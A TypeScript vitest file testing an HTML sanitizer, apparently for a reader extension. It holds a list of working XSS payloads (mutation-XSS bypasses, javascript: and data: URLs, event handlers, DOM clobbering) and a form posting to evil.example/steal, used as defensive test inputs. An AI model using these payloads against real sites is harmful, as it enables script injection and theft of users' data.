import { describe, expect, it } from 'vitest';
import { safeSrcset, safeUrl, sanitize, sanitizeToFragment } from '../sanitize';
import { videoLinkFor } from '../video-embeds';
import { reserialised, unsafeIn } from '../../../tests/unit/unsafe-dom';

const win = window as Window & typeof globalThis;
const clean = (html: string, baseUrl?: string) => sanitize(html, win, { baseUrl });

/**
 * Mutation-XSS, namespace-confusion and filter-evasion vectors, most of them from DOMPurify's own test
 * suite (test/fixtures/expect.mjs) and its published bypasses, plus the attacks the issue names.
 */
const VECTORS: Array<[string, string]> = [
  ['script element', '<p>x</p><script>window.__pwned=1</script>'],
  ['handler on img', '<img src="https://img.example/a.png" onerror="alert(1)">'],
  ['handler on svg', '<svg onload=alert(1)><g onload="alert(2)"></g></svg>'],
  ['javascript: link', '<a href="javascript:alert(1)">x</a>'],
  ['entity-encoded javascript: link', '<a href="&#106;avascript:alert(1)">x</a><a href="javascript&colon;alert(1)">y</a>'],
  ['javascript: with control characters', '<a href="\u0001java\u0003script:alert(1)">x</a><a href="jav&#x09;ascript:alert(1)">y</a>'],
  ['javascript: after unicode whitespace', '<a href="&#x2028;javascript:alert(1)">x</a><a href="&#xA0;javascript:alert(1)">y</a>'],
  ['vbscript: link', '<a href="vbscript:msgbox(1)">x</a>'],
  ['data: document link', '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>'],
  ['data: on video and source', '<video src="data:video/mp4,xx"></video><audio><source src="data:audio/mp3,xx"></audio>'],
  ['mXSS: svg p style (2019 bypass)', '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">'],
  ['mXSS: math mtext table mglyph style', '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;/mglyph&gt;&lt;img&Tab;src=1&Tab;onerror=alert(1)&gt;">'],
  ['mXSS: form math mtext mglyph', '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>'],
  ['mXSS: math mi table svg mtext textarea', '<math><mi><table><mi><mglyph><svg><mtext><textarea><path id="</textarea><img onerror=alert(1) src=1>">'],
  ['mXSS: noscript title', '<noscript><p title="</noscript><img src=x onerror=alert(1)>">'],
  ['mXSS: noscript comment', '<b><noscript><!-- </noscript><img src=x onerror=alert(1) --></noscript>'],
  ['mXSS: textarea comment', '<textarea>@x</textarea><!--</textarea><img src=x onerror=alert(1)>-->'],
  ['mXSS: listing', '<listing>&lt;img onerror="alert(1);//" src=x&gt;<t t></listing>'],
  ['mXSS: xmp', '<xmp><p title="</xmp><img src=x onerror=alert(1)>">'],
  ['mXSS: id/= attribute', "<img src=x id/=' onerror=alert(1)//'>"],
  ['mXSS: style in option', '\u0001<option><style></option></select><b><img src=x onerror=alert(1)></style></option>'],
  ['mXSS: iframe in option', '<option><iframe></select><b><script>alert(1)</script>'],
  ['mXSS: template nesting', '<template><s><template><s><img src=x onerror=alert(1)>@x</s></template></s></template>'],
  ['mXSS: comment breakout', '<!--<img src="--><img src=x onerror=alert(37)//">'],
  ['mXSS: CDATA in svg', '<svg><![CDATA[><image xlink:href="]]><img src=x onerror=alert(2)//"></svg>'],
  ['mXSS: select template style', '<select><template><style><!--</style><a rel="--></style></template></select><img src=x onerror=alert(1)>">'],
  ['annotation-xml html integration point', '<math><annotation-xml encoding="text/html"><img src=x onerror=alert(1)></annotation-xml></math>'],
  ['svg foreignObject', '<svg><foreignObject><iframe src="javascript:alert(1)"></iframe><img src=x onerror=alert(1)></foreignObject></svg>'],
  ['svg desc integration point', '<svg><desc><img src=x onerror=alert(1)><style>*{}</style></desc></svg>'],
  ['svg script with xlink', '<svg><script xlink:href="data:,alert(1)"></script></svg>'],
  ['svg a xlink:href javascript', '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">click</text></a></svg>'],
  ['svg animate href', '<svg><a><animate attributeName="href" values="javascript:alert(1)"/><text>x</text></a></svg>'],
  ['svg set handler', '<svg><set attributeName="onmouseover" to="alert(1)"/></svg>'],
  ['svg use external', '<svg><use href="https://evil.example/sprite.svg#x"/><use xlink:href="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=#x"/></svg>'],
  ['svg image beacon', '<svg><image href="https://track.example/p.gif"/></svg>'],
  ['svg style import', '<svg><style>@import url(https://track.example/a.css);</style></svg>'],
  ['svg paint server beacon', '<svg><rect width="10" height="10" fill="url(https://track.example/p.svg#g)"/></svg>'],
  ['svg CSS-escaped url()', '<svg><rect width="10" height="10" fill="\\75 rl(https://track.example/p.svg#g)"/></svg>'],
  ['CSS-escaped url() in any SVG attribute (found by fuzzing)', '<svg height=\\75rl(https://t.invalid/p)><rect width="url(https://t.invalid/q)"/></svg>'],
  ['math href', '<math href="javascript:alert(1)"><mi>x</mi></math>'],
  ['maction', '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)"><mtext>x</mtext></maction></math>'],
  ['iframe srcdoc', '<iframe srcdoc="&lt;script&gt;parent.__pwned=1&lt;/script&gt;"></iframe>'],
  ['object and embed', '<object data="javascript:alert(1)"></object><embed src="data:text/html,<script>alert(1)</script>">'],
  ['frameset', '<frameset onload=alert(1)><frame src="javascript:alert(1)"></frameset>'],
  ['form action', '<form action="https://evil.example/steal"><input name="q"><button formaction="javascript:alert(1)">Go</button></form>'],
  ['isindex', '<isindex x="javascript:" onmouseover="alert(1)" action="javascript:alert(1)">'],
  ['meta refresh', '<meta http-equiv="refresh" content="0;url=https://evil.example/">'],
  ['base href', '<base href="https://evil.example/"><a href="/login">Log in</a>'],
  ['link prefetch and stylesheet', '<link rel="prefetch" href="https://track.example/p"><link rel="stylesheet" href="https://track.example/s.css">'],
  ['style element beacon', '<style>body{background:url(https://track.example/p.gif)}</style><p>x</p>'],
  ['style attribute beacon', '<p style="background:url(https://track.example/p.gif)">x</p>'],
  ['ping tracker', '<a href="https://news.example/" ping="https://track.example/ping">x</a>'],
  ['srcset tracker with script URL', '<img src="https://img.example/a.jpg" srcset="javascript:alert(1) 2x, https://img.example/b.jpg 3x">'],
  ['table background', '<table background="https://track.example/bg.gif"><tr><td>x</td></tr></table>'],
  ['details ontoggle', '<details open ontoggle=alert(1)><summary>s</summary>x</details>'],
  ['video poster javascript', '<video poster="javascript:alert(1)" src="https://cdn.example/v.mp4" autoplay></video>'],
  ['target self and opener', '<a href="https://news.example/" target="_self" rel="opener">x</a>'],
  ['DOM clobbering names', '<img src=x name=createElement><img src=y id=getElementById><form name=body></form><a id=location href="#x">x</a>'],
  ['clobbering window globals', '<a id="__pwned" href="https://x.example/">x</a><img name="browser" src="https://img.example/a.png">'],
  ['attribute named like a prototype member', '<p constructor="x" __proto__="y" toString="z" hasOwnProperty="w">x</p>'],
  ['custom element with shadow root', '<x-card><template shadowrootmode="open"><img src=x onerror=alert(1)></template></x-card>'],
  ['processing instruction', '<?xml-stylesheet href="javascript:alert(17)"?><root/>'],
  ['body onload', '<body onload=alert(1)><p>x</p></body>'],
  ['dialog and popover', '<dialog open><p popover>x</p><button popovertarget=p>y</button></dialog>'],
  ['input image', '<input type="image" src="https://track.example/p.gif" onerror="alert(1)">'],
  ['relative URLs that would point into the extension', '<a href="/library.html?wipe=1">x</a><img src="/icon/128.png"><a href="//evil.example/">y</a>'],
];

describe('sanitize: hostile markup', () => {
  for (const [name, html] of VECTORS) {
    it(`${name}: nothing unsafe survives, and the output is stable`, () => {
      const out = clean(html);
      expect(unsafeIn(out)).toEqual([]);
      // Re-parsing the output must not mutate it (that is where mutation XSS lives)...
      expect(reserialised(out)).toBe(out);
      // ...and the reader's own sanitise of it changes nothing.
      expect(clean(out)).toBe(out);
    });
  }

  it('the vectors are real: without sanitising, the checker flags them', () => {
    const flagged = VECTORS.filter(([, html]) => unsafeIn(html).length > 0).map(([name]) => name);
    // Every vector but the text-only ones is unsafe as written (mXSS ones only after a browser mutates them).
    expect(flagged.length).toBeGreaterThan(VECTORS.length * 0.7);
  });

  it('never throws, whatever the attribute is called', () => {
    expect(() => clean('<p constructor="x" __proto__="y" toString="z">x</p>')).not.toThrow();
    expect(clean('<p constructor="x">text</p>')).toBe('<p>text</p>');
  });
});

describe('sanitize: what the reader keeps', () => {
  it('keeps article structure, tables, code, figures and formulas', () => {
    const html =
      '<h2>Title</h2><p>Some <strong>bold</strong>, <em>em</em>, <code>code</code>, <sub>2</sub><sup>3</sup>.</p>' +
      '<blockquote cite="https://a.example/q"><p>quote</p></blockquote><ul><li>one</li></ul><ol start="3" reversed><li value="7">x</li></ol>' +
      '<pre><code class="language-js">let a = 1;</code></pre><table><caption>c</caption><thead><tr><th scope="col">h</th></tr></thead><tbody><tr><td colspan="2">d</td></tr></tbody></table>' +
      '<figure><img src="https://img.example/a.jpg" alt="A" width="640" height="480"><figcaption>cap</figcaption></figure>' +
      '<math display="block"><mrow><mi>x</mi><mo>=</mo><mfrac><mn>1</mn><mn>2</mn></mfrac></mrow></math>' +
      '<details><summary>More</summary><p>hidden text</p></details><p dir="rtl" lang="ar">مرحبا</p><ruby>漢<rt>kan</rt></ruby>';
    const out = clean(html);
    for (const fragment of ['<h2>Title</h2>', '<strong>bold</strong>', '<code class="language-js">', '<caption>c</caption>', '<th scope="col">',
      '<td colspan="2">', '<figcaption>cap</figcaption>', '<mfrac><mn>1</mn><mn>2</mn></mfrac>', '<summary>More</summary>',
      'dir="rtl" lang="ar"', '<rt>kan</rt>', 'cite="https://a.example/q"', '<ol start="3" reversed="">', '<li value="7">']) {
      expect(out).toContain(fragment);
    }
    expect(out).toMatch(/<img src="https:\/\/img\.example\/a\.jpg" alt="A" width="640" height="480"[^>]*>/);
  });

  it('opens links in a new tab without opener or referrer, and leaves in-article anchors alone', () => {
    const out = clean('<a href="https://news.example/x">x</a> <a href="#fn1">1</a> <a href="mailto:desk@news.example">m</a><p id="fn1">note</p>');
    expect(out).toContain('<a href="https://news.example/x" target="_blank" rel="noopener noreferrer" referrerpolicy="no-referrer">x</a>');
    expect(out).toContain('<a href="#user-content-fn1">1</a>');
    expect(out).toContain('<p id="user-content-fn1">note</p>');
    expect(out).toContain('href="mailto:desk@news.example" target="_blank"');
  });

  it('keeps data: images and drops every other data: URL', () => {
    const out = clean('<img src="data:image/png;base64,iVBORw0KGgo="><img src="data:text/html,x"><a href="data:image/png;base64,iVBORw0KGgo=">x</a>');
    expect(out).toContain('<img src="data:image/png;base64,iVBORw0KGgo="');
    expect(out).not.toContain('data:text/html');
    expect(out).toContain('<a>x</a>');
  });

  it('makes relative URLs absolute against the page, and drops them when it does not know the page', () => {
    expect(clean('<a href="/more">m</a><img src="pic.jpg">', 'https://news.example/a/b.html')).toContain('href="https://news.example/more"');
    expect(clean('<img src="pic.jpg">', 'https://news.example/a/b.html')).toContain('src="https://news.example/a/pic.jpg"');
    expect(clean('<a href="/more">m</a><img src="pic.jpg">')).not.toMatch(/href=|src=/);
  });

  it('lazy-loads images without a referrer and drops tracking pixels', () => {
    const out = clean('<img src="https://img.example/a.jpg" alt="a"><img src="https://track.example/p.gif" width="1" height="1"><img src="https://track.example/q.gif" width="0">');
    expect(out).toBe('<img src="https://img.example/a.jpg" alt="a" loading="lazy" decoding="async" referrerpolicy="no-referrer">');
  });

  it('filters srcset candidates and keeps URLs with commas whole', () => {
    expect(safeSrcset('https://cdn.example/w_300,h_200/a.jpg 300w, https://cdn.example/w_600,h_400/a.jpg 600w')).toBe(
      'https://cdn.example/w_300,h_200/a.jpg 300w, https://cdn.example/w_600,h_400/a.jpg 600w',
    );
    expect(safeSrcset('javascript:alert(1) 1x, /b.jpg 2x', 'https://news.example/')).toBe('https://news.example/b.jpg 2x');
    expect(safeSrcset('data:image/png;base64,xx 1x')).toBeNull();
    expect(safeSrcset('a.jpg 1x (evil)')).toBeNull();
  });

  it('checks each URL attribute where it belongs', () => {
    expect(safeUrl('https://x.example/', 'div', 'href')).toBeNull();
    expect(safeUrl('https://x.example/a.jpg', 'img', 'src')).toBe('https://x.example/a.jpg');
    expect(safeUrl('ftp://x.example/a.jpg', 'img', 'src')).toBeNull();
    expect(safeUrl('tel:+15550100', 'a', 'href')).toBe('tel:+15550100');
    expect(safeUrl('#', 'a', 'href')).toBeNull();
    expect(safeUrl('chrome-extension://abc/library.html', 'a', 'href')).toBeNull();
  });

  it('never lets media autoplay or preload', () => {
    const out = clean('<video src="https://cdn.example/v.mp4" poster="https://img.example/p.jpg" autoplay muted loop></video><audio src="https://cdn.example/a.mp3" autoplay preload="auto"></audio>');
    expect(out).toContain('<video src="https://cdn.example/v.mp4" poster="https://img.example/p.jpg" muted="" loop="" controls="" preload="none"></video>');
    expect(out).toContain('<audio src="https://cdn.example/a.mp3" preload="none" controls=""></audio>');
    expect(out).not.toContain('autoplay');
  });

  it('keeps SVG charts with same-document references, renamed with their ids', () => {
    const out = clean('<svg viewBox="0 0 10 10"><defs><linearGradient id="g"><stop offset="0" stop-color="red"/></linearGradient></defs><rect width="10" height="10" fill="url(#g)"/></svg>');
    expect(out).toContain('<lineargradient id="user-content-g">'.replace('lineargradient', 'linearGradient'));
    expect(out).toContain('fill="url(#user-content-g)"');
    expect(out).toContain('viewBox="0 0 10 10"');
  });
});

describe('sanitize: video embeds become links', () => {
  it('a YouTube iframe becomes a link to the video with its thumbnail', () => {
    const out = clean('<p>Watch:</p><iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ?rel=0" title="Harbour at dawn" allowfullscreen></iframe>');
    expect(out).toBe(
      '<p>Watch:</p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ" data-cr-video="YouTube" target="_blank" rel="noopener noreferrer" referrerpolicy="no-referrer">' +
        '<img src="https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg" alt="Harbour at dawn" loading="lazy" decoding="async" referrerpolicy="no-referrer"><br>▶ Harbour at dawn</a>',
    );
    expect(unsafeIn(out)).toEqual([]);
    expect(clean(out)).toBe(out);
  });

  it('an untitled player with a thumbnail is named by its provider for assistive tech, with the play sign as its only visible text', () => {
    const out = clean('<p>Watch:</p><iframe src="https://www.youtube.com/embed/dQw4w9WgXcQ"></iframe>');
    expect(out).toBe(
      '<p>Watch:</p><a href="https://www.youtube.com/watch?v=dQw4w9WgXcQ" data-cr-video="YouTube" aria-label="YouTube" target="_blank" rel="noopener noreferrer" referrerpolicy="no-referrer">' +
        '<img src="https://i.ytimg.com/vi/dQw4w9WgXcQ/hqdefault.jpg" alt="YouTube" loading="lazy" decoding="async" referrerpolicy="no-referrer"><br>▶</a>',
    );
    // Without a thumbnail the provider's name is the link's only content, so it stays visible.
    expect(clean('<iframe src="https://player.vimeo.com/video/76979871"></iframe>')).toContain('>▶ Vimeo</a>');
  });

  it('lazy iframes, players in other tags and lite-youtube are recognised too', () => {
    expect(clean('<iframe data-src="https://player.vimeo.com/video/76979871?h=1"></iframe>')).toContain('href="https://vimeo.com/76979871"');
    expect(clean('<iframe src="https://www.dailymotion.com/embed/video/x8abc12"></iframe>')).toContain('src="https://www.dailymotion.com/thumbnail/video/x8abc12"');
    expect(clean('<lite-youtube videoid="dQw4w9WgXcQ"></lite-youtube>')).toContain('href="https://www.youtube.com/watch?v=dQw4w9WgXcQ"');
    expect(clean('<object data="https://www.youtube.com/v/dQw4w9WgXcQ"></object>')).toContain('data-cr-video="YouTube"');
    expect(clean('<iframe src="//www.youtube.com/embed/dQw4w9WgXcQ"></iframe>', 'https://news.example/')).toContain('watch?v=dQw4w9WgXcQ');
  });

  it('other iframes (ads, widgets, javascript:) leave nothing behind', () => {
    expect(clean('<p>a</p><iframe src="https://ads.example/slot"></iframe><iframe src="javascript:alert(1)"></iframe><p>b</p>')).toBe('<p>a</p><p>b</p>');
  });

  it('recognises only real player URLs', () => {
    expect(videoLinkFor('https://www.youtube.com/embed/short')).toBeNull();
    expect(videoLinkFor('https://youtube.com.evil.example/embed/dQw4w9WgXcQ')).toBeNull();
    expect(videoLinkFor('https://www.facebook.com/plugins/video.php?href=https%3A%2F%2Fevil.example%2F')).toBeNull();
    expect(videoLinkFor('javascript:alert(1)//www.youtube.com/embed/dQw4w9WgXcQ')).toBeNull();
    expect(videoLinkFor('https://player.twitch.tv/?video=v123456&parent=x')?.href).toBe('https://www.twitch.tv/videos/123456');
  });

  it('a <video> with nothing playable becomes a link to the page with its poster', () => {
    const out = sanitize('<video poster="/p.jpg" title="Storm footage"><source src="blob:https://news.example/1"></video>', win, {
      baseUrl: 'https://news.example/a/',
      pageUrl: 'https://news.example/a/story.html',
    });
    expect(out).toContain('<a href="https://news.example/a/story.html" data-cr-video="video"');
    expect(out).toContain('<img src="https://news.example/p.jpg" alt="Storm footage"');
    expect(out).not.toContain('<video');
  });

  it('a <video> with nothing playable and no page to link to keeps its poster, or goes', () => {
    expect(clean('<video poster="https://img.example/p.jpg"></video>')).toBe('<img src="https://img.example/p.jpg" alt="" loading="lazy" decoding="async" referrerpolicy="no-referrer">');
    expect(clean('<p>x</p><video>Your browser cannot play this.</video>')).toBe('<p>x</p>');
  });
});

describe('sanitizeToFragment', () => {
  it('returns a fragment of an inert document, so nothing in it loads in the page', () => {
    const fragment = sanitizeToFragment('<img src="https://img.example/a.jpg"><script>x</script>', win);
    expect(fragment.ownerDocument).not.toBe(window.document);
    expect(fragment.querySelector('script')).toBeNull();
    expect(fragment.querySelector('img')?.getAttribute('loading')).toBe('lazy');
  });

  it('returns an empty fragment for markup the parser turns into a frameset (DOMPurify returns null)', () => {
    for (const html of ['<frameset><frame src="https://a.example/"></frameset>', '<div><header>\n</header><frameset>Text a frameset drops</frameset>']) {
      const fragment = sanitizeToFragment(html, win);
      expect(fragment.nodeType).toBe(Node.DOCUMENT_FRAGMENT_NODE);
      expect(fragment.childNodes).toHaveLength(0);
      expect(fragment.ownerDocument).not.toBe(window.document);
    }
    expect(sanitize('<frameset></frameset>', win)).toBe('');
  });
});
